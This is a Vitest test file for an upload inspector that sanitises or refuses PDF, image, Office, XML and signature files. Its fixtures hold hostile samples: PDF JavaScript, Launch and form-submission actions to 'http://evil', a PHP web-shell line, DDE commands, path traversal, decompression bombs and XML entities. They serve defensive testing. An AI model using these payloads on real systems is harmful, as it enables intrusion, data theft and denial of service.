import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { PDFDocument } from '@cantoo/pdf-lib'
import { documentKinds, type FileKind } from '@ipoteka-office/contract/common/file-kinds.ts'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  jpeg,
  office,
  type PdfObject,
  pdf,
  pdfOf,
  png,
  signature,
  tiff,
  webp,
  type ZipPart,
  zipOf,
} from '#testing/file-specimens.ts'
import { inspectFile } from './inspect-file.ts'

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'inspect-'))
})
afterAll(() => rm(folder, { recursive: true }))

async function inspect(content: Buffer, kinds: readonly FileKind[] = documentKinds, name = 'файл') {
  const path = join(folder, 'file')
  await writeFile(path, content)
  const verdict = await inspectFile({ path, out: `${path}.out`, name, size: content.length, kinds })
  const out = verdict.ok && verdict.isRewritten ? await readFile(`${path}.out`) : null
  return { verdict, out }
}
const reasonFor = async (content: Buffer, kinds?: readonly FileKind[]) => {
  const { verdict } = await inspect(content, kinds)
  return verdict.ok ? null : verdict.reason
}

const xml = (text: string) => Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>${text}`)
const mebibyte = 1_048_576
const flate = (bytes: number) => deflateSync(Buffer.alloc(bytes), { level: 9 })

describe('what is sound is taken as it is', () => {
  const pem = Buffer.from(
    `-----BEGIN CMS-----\n${signature()
      .toString('base64')
      .replace(/(.{64})/g, '$1\n')}\n-----END CMS-----\n`,
  )
  it.each<[string, FileKind, () => Buffer | Promise<Buffer>, object]>([
    ['a PDF', 'PDF', () => pdf({ pages: 3 }), { pages: 3 }],
    [
      'a PDF that opens at a page, with a link',
      'PDF',
      () =>
        pdf({
          catalog: '/OpenAction [3 0 R /Fit]',
          page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://bank.ru) >> >>]',
        }),
      { pages: 1 },
    ],
    [
      'a PDF whose font is called AA',
      'PDF',
      () =>
        pdf({
          page: '/Resources << /Font << /AA << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>',
        }),
      { pages: 1 },
    ],
    ['a JPEG', 'JPEG', () => jpeg(40, 30), { pages: 1, width: 40, height: 30 }],
    ['a PNG', 'PNG', () => png({ width: 300, height: 200 }), { pages: 1, width: 300, height: 200 }],
    ['a TIFF', 'TIFF', () => tiff(), { pages: 1, width: 40, height: 30 }],
    ['a text of Office', 'DOCX', () => office('docx'), { pages: null }],
    [
      'a text with a chart',
      'DOCX',
      () => office('docx', [{ name: 'word/embeddings/Book1.xlsx', content: office('xlsx') }]),
      {},
    ],
    ['a table of Office', 'XLSX', () => office('xlsx'), {}],
    ['XML', 'XML', () => xml('<a xmlns="urn:x"><b c="1">текст</b></a>'), {}],
    [
      'XML in windows-1251',
      'XML',
      () => Buffer.from('<?xml version="1.0" encoding="windows-1251"?><a>\xf2\xe5\xf1\xf2</a>', 'latin1'),
      {},
    ],
    ['a signature in DER', 'SIG', () => signature(), {}],
    ['a signature in PEM', 'SIG', () => pem, {}],
    ['a signature in Base64', 'SIG', () => Buffer.from(signature().toString('base64')), {}],
  ])('%s', async (_name, kind, make, found) => {
    const { verdict } = await inspect(await make())
    expect(verdict).toMatchObject({ ok: true, kind, isRewritten: false, warnings: [], ...found })
  })

  it('a CSV, where tables are taken', async () => {
    const kinds = ['XLSX', 'CSV'] as const
    expect((await inspect(Buffer.from('код;название\n1;Один\n'), kinds)).verdict).toMatchObject({
      kind: 'CSV',
    })
    expect(await reasonFor(Buffer.from('код;название\n1;Один\n'))).toMatch(/^Принимаются файлы PDF/)
  })
})

describe('a PDF that does something by itself is made harmless', () => {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
  const annotation = (entries: string) => `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${entries} >>]`
  const attachment: PdfObject[] = [
    '<< /Type /Filespec /F (evil.exe) /EF << /F 5 0 R >> >>',
    { dict: '<< /Type /EmbeddedFile >>', stream: Buffer.from('MZ-evil-program') },
  ]
  it.each([
    ['a script on opening', pdf({ catalog: `/OpenAction ${script}` }), 'сценарии JavaScript', 'app.alert'],
    [
      'a script in an object of its own',
      pdf({ catalog: '/OpenAction 4 0 R', more: [script] }),
      'сценарии JavaScript',
      'app.alert',
    ],
    [
      'a script in the names',
      pdf({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', more: [script] }),
      'сценарии JavaScript',
      'app.alert',
    ],
    [
      'a script whose name is written in codes',
      pdf({ catalog: '/Open#41ction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>' }),
      'сценарии JavaScript',
      'app.alert',
    ],
    ['a script on closing', pdf({ page: `/AA << /C ${script} >>` }), 'автоматические действия', 'app.alert'],
    [
      'a script in a link',
      pdf({ page: annotation(`/Subtype /Link /A ${script}`) }),
      'сценарии JavaScript',
      'app.alert',
    ],
    [
      'a start of a program',
      pdf({ page: annotation('/Subtype /Link /A << /S /Launch /F (cmd.exe) >>') }),
      'запуск программ',
      'cmd.exe',
    ],
    [
      'a link with a script',
      pdf({ page: annotation('/Subtype /Link /A << /S /URI /URI (javascript:evil) >>') }),
      'запуск программ',
      'javascript:evil',
    ],
    [
      'a form that is sent',
      pdf({ page: annotation('/Subtype /Widget /A << /S /SubmitForm /F (http://evil) >>') }),
      'отправка данных',
      'http://evil',
    ],
    [
      'an embedded file',
      pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>', more: attachment }),
      'вложенные файлы',
      'evil-program',
    ],
    [
      'a file pinned to a page',
      pdf({ page: annotation('/Subtype /FileAttachment /FS 4 0 R'), more: attachment }),
      'вложенные файлы',
      'evil-program',
    ],
    [
      'a film',
      pdf({ page: annotation('/Subtype /RichMedia /RichMediaContent << /Assets (film) >>') }),
      'мультимедиа',
      '(film)',
    ],
    [
      'a form of XFA',
      pdf({
        catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>',
        more: [{ dict: '<< >>', stream: Buffer.from('<xdp>evil</xdp>') }],
      }),
      'форма XFA',
      '<xdp>',
    ],
  ])('%s', async (_name, content, what, trace) => {
    const { verdict, out } = await inspect(content)
    expect(verdict).toMatchObject({ ok: true, kind: 'PDF', pages: 1, isRewritten: true })
    expect(verdict.ok && verdict.warnings.join()).toMatch(new RegExp(`^Из PDF удалены: .*${what}`))
    const clean = out ?? Buffer.alloc(0)
    expect(clean.includes(trace)).toBe(false)
    // Nothing of it is left in a packed object either.
    const again = await PDFDocument.load(clean)
    const objects = again.context
      .enumerateIndirectObjects()
      .map(([, object]) => String(object))
      .join('\n')
    expect(objects).not.toContain(trace)
    expect(objects).not.toMatch(/\/(?:JavaScript|Launch|SubmitForm|EmbeddedFiles|RichMedia|XFA|AA)\b/)
    expect((await inspect(clean)).verdict).toMatchObject({ ok: true, isRewritten: false, warnings: [] })
  })

  it('what hangs behind its end is cut off', async () => {
    const { verdict, out } = await inspect(
      Buffer.concat([pdf(), zipOf([{ name: 'evil.js', content: Buffer.from('evil') }])]),
    )
    expect(verdict).toMatchObject({
      ok: true,
      isRewritten: true,
      warnings: [expect.stringMatching(/посторонние данные/)],
    })
    expect(out?.includes('PK')).toBe(false)
  })

  it('one that is signed is refused: a change would break the signature', async () => {
    const sign = '<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> >>'
    expect((await inspect(pdf({ catalog: '/Sig 4 0 R', more: [sign] }))).verdict.ok).toBe(true)
    expect(await reasonFor(pdf({ catalog: `/Sig 4 0 R /OpenAction ${script}`, more: [sign] }))).toMatch(
      /^PDF подписан, но содержит сценарии JavaScript/,
    )
  })
})

describe('a PDF is refused', () => {
  const image = (width: number, height: number, stream = Buffer.alloc(10)): PdfObject => ({
    dict: `<< /Type /XObject /Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /FlateDecode >>`,
    stream,
  })
  const packed = (dict: string, stream: Buffer): PdfObject => ({ dict: `<< /Filter ${dict} >>`, stream })
  it.each([
    [
      'that is encrypted',
      pdf({ trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>' }),
      /защищён паролем/,
    ],
    ['that is only a heading', Buffer.from('%PDF-1.7\n%%EOF'), /повреждён/],
    [
      'of noise',
      Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(100_000, 7), Buffer.from('%%EOF')]),
      /повреждён/,
    ],
    ['that is cut', pdf({ pages: 5 }).subarray(0, 300), /повреждён/],
    [
      'without pages',
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 0 /Kids [] >>']),
      /повреждён/,
    ],
    [
      'whose pages bite their tail',
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 1 /Kids [2 0 R] >>']),
      /повреждён/,
    ],
    ['of too many pages', pdf({ pages: 3_001 }), /больше 3000 страниц/],
    [
      'with a bomb',
      pdf({ catalog: '/X 4 0 R', more: [packed('/FlateDecode', flate(100 * mebibyte))] }),
      /слишком большой объём/,
    ],
    [
      'with a bomb in a bomb',
      pdf({
        catalog: '/X 4 0 R',
        more: [packed('[/FlateDecode /FlateDecode]', deflateSync(flate(100 * mebibyte)))],
      }),
      /слишком большой объём/,
    ],
    [
      'with many smaller bombs',
      pdf({
        catalog: '/X 4 0 R',
        more: Array.from({ length: 12 }, () => packed('/FlateDecode', flate(60 * mebibyte))),
      }),
      /слишком большой объём/,
    ],
    [
      'with an enormous picture',
      pdf({ catalog: '/X 4 0 R', more: [image(50_000, 50_000)] }),
      /изображение 50000 × 50000/,
    ],
    [
      'with a small picture that unpacks to a large one',
      pdf({ catalog: '/X 4 0 R', more: [image(10, 10, flate(50 * mebibyte))] }),
      /слишком большой объём/,
    ],
    ['that shows only a form of XFA', pdf({ catalog: '/NeedsRendering true' }), /динамическая форма/],
    ['of brackets a million deep', pdf({ catalog: `/X ${'['.repeat(1_000_000)}` }), /повреждён/],
  ])('%s', async (_name, content, reason) => {
    expect(await reasonFor(content)).toMatch(reason)
  })
})

describe('an image', () => {
  it.each<[string, () => Promise<Buffer> | Buffer, RegExp]>([
    [
      'of enormous dimensions',
      () => png({ width: 50_000, height: 50_000, rows: Buffer.alloc(1_000) }),
      /50000 × 50000 точек слишком велико/,
    ],
    ['very long', () => png({ width: 40_000, height: 10 }), /40000 × 10 точек/],
    [
      'that promises more rows than it has',
      () => png({ width: 3_000, height: 3_000, rows: Buffer.alloc(1_000) }),
      /повреждено/,
    ],
    [
      'that moves',
      () => png({ width: 10, height: 10, chunks: [['acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0])]] }),
      /Анимированные/,
    ],
    ['that is cut', async () => (await jpeg(800, 600)).subarray(0, 1_500), /повреждено/],
    [
      'of a heading alone',
      () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(100)]),
      /повреждено/,
    ],
    ['of a kind that is not taken', () => webp(), /^Принимаются файлы PDF, JPEG/],
    [
      'that is a drawing of lines',
      () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      /SVG/,
    ],
  ])('%s is refused', async (_name, make, reason) => {
    expect(await reasonFor(await make())).toMatch(reason)
  })

  it.each<[string, () => Promise<Buffer> | Buffer]>([
    ['JPEG', () => jpeg()],
    ['PNG', () => png({ width: 40, height: 30 })],
  ])('%s loses what hangs behind it', async (_kind, make) => {
    const content = await make()
    const { verdict, out } = await inspect(Buffer.concat([content, Buffer.from('<?php system($_GET[0]) ?>')]))
    expect(verdict).toMatchObject({
      ok: true,
      isRewritten: true,
      width: 40,
      warnings: [expect.stringMatching(/посторонние данные/)],
    })
    expect(out?.equals(content)).toBe(true)
  })
})

describe('a file of Office is refused', () => {
  const part = (name: string, text = 'x'): ZipPart => ({ name, content: Buffer.from(text) })
  const rels = (type: string, target: string) =>
    part(
      'word/_rels/settings.xml.rels',
      `<Relationships><Relationship Id="r" Type="http://x/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
    )
  it.each([
    ['with macros', office('docx', [part('word/vbaProject.bin')]), /макросы/],
    [
      'with macros under another name',
      office('docx', [], '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
      /макросы/,
    ],
    ['with a control', office('docx', [part('word/activeX/activeX1.xml')]), /макросы/],
    ['with a program inside', office('docx', [part('word/embeddings/oleObject1.bin')]), /вложенные файлы/],
    ['with an archive inside', office('xlsx', [part('xl/media/a.zip')]), /вложенные файлы/],
    [
      'with a template from elsewhere',
      office('docx', [rels('attachedTemplate', 'http://evil/t.dotm')]),
      /из сети/,
    ],
    [
      'with an object from a shared folder',
      office('docx', [rels('oleObject', 'file://server/share/a')]),
      /из сети/,
    ],
    [
      'with a command to another program',
      office('docx', [part('word/x.xml', '<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>')]),
      /запускают другие программы/,
    ],
    [
      'with entities of its own',
      office('docx', [part('word/y.xml', '<!DOCTYPE a [<!ENTITY b "c">]><a/>')]),
      /определения XML/,
    ],
    [
      'that unpacks without end',
      office('docx', [{ name: 'word/media/a.emf', content: Buffer.alloc(200 * mebibyte) }]),
      /слишком большой объём/,
    ],
    [
      'that lies about its size',
      office('docx', [{ name: 'word/media/a.emf', content: Buffer.alloc(mebibyte), size: 100 }]),
      /слишком большой объём|повреждён/,
    ],
    [
      'with ten thousand parts',
      office(
        'docx',
        Array.from({ length: 10_000 }, (_, at) => part(`word/${at}.bin`)),
      ),
      /слишком большой объём/,
    ],
    ['that climbs out of its folder', office('docx', [part('../../etc/cron.d/evil')]), /недопустимые имена/],
    ['with a password', office('docx', [{ ...part('word/z.xml'), flags: 1 }]), /паролем/],
    ['that is cut', office('docx').subarray(0, 300), /повреждён/],
    ['that is a plain archive', zipOf([part('a.txt')]), /^Принимаются файлы/],
  ])('%s', async (_name, content, reason) => {
    expect(await reasonFor(content)).toMatch(reason)
  })

  it('but not for a template of its own computer', async () => {
    const local = rels('attachedTemplate', 'file:///C:\\Users\\Ivan\\Normal.dotm')
    expect((await inspect(office('docx', [local]))).verdict.ok).toBe(true)
  })
})

describe('other files are refused', () => {
  it.each([
    ['XML with entities', xml('<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb">]><a>&b;</a>'), /DOCTYPE/],
    ['XML that is not well-formed', xml('<a><b></a>'), /разметка неверна/],
    ['XML without end', xml('<a>'), /разметка неверна/],
    ['XML of great depth', xml('<a>'.repeat(300) + '</a>'.repeat(300)), /слишком сложен/],
    [
      'a page of the web',
      Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>'),
      /веб-страница/,
    ],
    [
      'XML that a browser shows as a page',
      xml('<a><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></a>'),
      /веб-страница/,
    ],
    [
      'a signature that is none',
      Buffer.concat([Buffer.from([0x30, 0x82, 0x00, 0x10]), Buffer.alloc(16, 1)]),
      /не подпись/,
    ],
    ['a signature with something behind it', Buffer.concat([signature(), Buffer.from('MZ')]), /не подпись/],
    ['a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]), /^Принимаются файлы/],
    ['a program before a PDF', Buffer.concat([Buffer.from('MZ'), pdf()]), /^Принимаются файлы/],
    [
      'plain text',
      Buffer.from('просто текст, который ничем не является, кроме текста'),
      /^Принимаются файлы/,
    ],
  ])('%s', async (_name, content, reason) => {
    expect(await reasonFor(content)).toMatch(reason)
  })
})
